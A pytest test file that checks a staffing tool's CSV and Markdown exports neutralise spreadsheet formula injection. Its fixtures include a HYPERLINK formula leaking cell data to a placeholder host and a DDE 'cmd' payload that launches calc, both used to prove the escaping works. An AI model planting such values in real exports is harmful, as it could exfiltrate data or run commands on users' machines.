"""Issue 7 §4 — exports neutralise spreadsheet formula injection: a name, place or id
that starts with = + - @ (or a tab) reaches a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from staffing_tui.present.escape import for_markdown_cell, neutralise_formula
from tests.builders import cli
from tests.reliability.datasets import write_csv, write_dataset

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_PLACE = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'


@pytest.fixture
def hostile_db(tmp_path, capsys) -> Path:
    """Imported through the CLI: ids start with "=", names and places look like formulas."""
    source = write_dataset(tmp_path / "csv", cases=2, notes_per_case=40, prefix="=")
    write_csv(source, "people", [
        ["=K0", "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "2015-03-04", ""],
        ["=A0", "+1", "-Dash", "1985-06-07", ""],
        ["=K1", "Plain", "Name", "2015-03-04", ""],
        ["=A1", "Other", "Parent", "1985-06-07", ""],
    ])
    write_csv(source, "placements", [["=PL0", "=C0", "=K0", "foster_home", HOSTILE_PLACE, "2025-01-01", ""],
                                     ["=PL1", "=C1", "=K1", "kinship", "@home", "2025-01-01", ""]])
    db = tmp_path / "agency.db"
    code, _, err = cli(capsys, "import", source, "--db", db)
    assert code == 0, err
    return db


def test_csv_report_prefixes_every_formula_like_cell_with_a_quote(hostile_db, capsys):
    code, out, err = cli(capsys, "report", "--db", hostile_db, "--month", "2025-01", "--as-of", "2025-02-01",
                         "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_START)]
    child = next(r for r in rows if r["person_id"] == "'=K0")
    assert child["case_id"] == "'=C0" and child["placement_location_name"] == "'" + HOSTILE_PLACE


def _cells(markdown: str) -> list[str]:
    """Every table cell and list item of a Markdown text, as a spreadsheet paste would split it."""
    cells = []
    for line in markdown.splitlines():
        if line.startswith("|") and not line.startswith("|---"):
            cells += [cell.strip() for cell in line.strip("|").split(" | ")]
        elif line.startswith("- "):
            cells.append(line[2:])
    return cells


@pytest.mark.parametrize("argv", [
    ["report", "--month", "2025-01", "--as-of", "2025-02-01"],
    ["agenda", "--specialist", "S1", "--month", "2025-02", "--as-of", "2025-02-10"],
])
def test_markdown_escapes_a_leading_formula_character(hostile_db, capsys, argv):
    code, out, err = cli(capsys, *argv, "--db", hostile_db)
    assert code == 0, err
    cells = _cells(out)
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_START)]
    # Escaped, not dropped: Markdown renders "\=" and "\+" as "=" and "+".
    assert any(cell.startswith(("\\=", "\\+")) for cell in cells)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("Smith", "Smith"), ("", ""), (" =1", "' =1"),
])
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "\\=1+1"), ("a|b", "a\\|b"), ("two\nlines", "two lines"), ("\t=1", "\\=1"), (None, ""),
])
def test_a_markdown_cell_keeps_one_cell_and_no_formula(value, expected):
    assert for_markdown_cell(value) == expected
